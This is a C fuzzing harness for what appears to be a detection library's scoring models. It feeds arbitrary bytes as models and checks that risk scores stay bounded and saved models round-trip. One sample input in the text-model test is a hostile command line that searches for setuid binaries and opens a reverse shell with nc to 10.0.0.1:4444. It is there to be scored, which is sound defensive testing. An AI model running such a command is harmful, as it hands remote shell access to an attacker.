/* SPDX-License-Identifier: Apache-2.0 */
/* Any bytes as a language, sequence, series or text model: refused, or safe to score with. */
#include "models/language.h"
#include "models/sequence.h"
#include "models/series.h"
#include "models/text.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t len);

static void try_sequence(struct rv_span bytes)
{
    static const uint16_t calls[] = { 3, 4, 5, 6, 3, 4, 11, 102, 65535, 0, 3, 3, 3, 3, 3, 3 };
    struct rv_sequence_model *model = NULL;
    struct rv_sequence_reason reasons[3];
    struct rv_score score;

    if (rv_sequence_load(&model, bytes) < 0)
        return;
    if (rv_sequence_score(model, calls, RV_COUNT(calls), &score) == 0 && score.risk > 1000)
        abort();
    (void)rv_sequence_explain(model, calls, RV_COUNT(calls), reasons, RV_COUNT(reasons));
    rv_sequence_model_free(&model);
}

static void try_series(struct rv_span bytes)
{
    static const char text[] = "a,b,c\n1,2,3\n4,5,6\n7,,9\n";
    struct rv_series_model *model = NULL;
    struct rv_series_set set = { 0 };
    struct rv_series_reason reasons[3];
    struct rv_score scores[3];

    if (rv_series_load(&model, bytes) < 0)
        return;
    if (rv_series_parse(&set, "x", rv_span_str(text), NULL) == 0 && set.items[0].rows == 3) {
        (void)!rv_series_score(model, &set.items[0], scores, NULL);
        (void)rv_series_explain(model, &set.items[0], 2, reasons, RV_COUNT(reasons));
    }
    rv_series_set_done(&set);
    rv_series_model_free(&model);
}

static void try_text(struct rv_span bytes)
{
    static const char line[] = "find / -perm -4000 ; nc -e /bin/sh 10.0.0.1 4444 # \"x";
    struct rv_text_model *model = NULL;
    struct rv_text_reason reasons[3];
    struct rv_score score;

    if (rv_text_load(&model, bytes) < 0)
        return;
    (void)!rv_text_score(model, rv_span_str(line), &score);
    (void)rv_text_explain(model, rv_span_str(line), reasons, RV_COUNT(reasons));
    rv_text_model_free(&model);
}

static void try_language(struct rv_span bytes)
{
    RV_AUTO(rv_buf_done) struct rv_buf again = { 0 };
    struct rv_language *language = NULL;
    struct rv_sessions *sessions = NULL;
    struct rv_utterance utterance = { .session = 1 };
    int64_t raw_q16;

    if (rv_language_load(&language, bytes) < 0)
        return;
    if (rv_sessions_new(&sessions, language) == 0) {
        for (unsigned i = 0; i < 4096; i++) {
            utterance.symbol = (uint16_t)(i * 37 % (RV_SYMBOL_END + 4));
            utterance.kind = (uint8_t)(i / 3);
            rv_sessions_put(sessions, &utterance);
        }
        raw_q16 = rv_sessions_speak_q16(sessions, 1, 0);
        /* Eight times the most that one symbol can be worth, rounded: what an account can hold. */
        if (raw_q16 > 8 * 16 * 65536 + 8 ||
            rv_calibration_risk(rv_language_calibration(language), 0, raw_q16) > 1000)
            abort();
    }
    rv_language_save(language, &again); /* one encoding for one model */
    if (!again.failed && !rv_span_eq(rv_buf_span(&again), bytes))
        abort();
    rv_sessions_free(&sessions);
    rv_language_free(&language);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t len)
{
    struct rv_span bytes = rv_span(data, len);

    try_language(bytes);
    try_sequence(bytes);
    try_series(bytes);
    try_text(bytes);
    return 0;
}
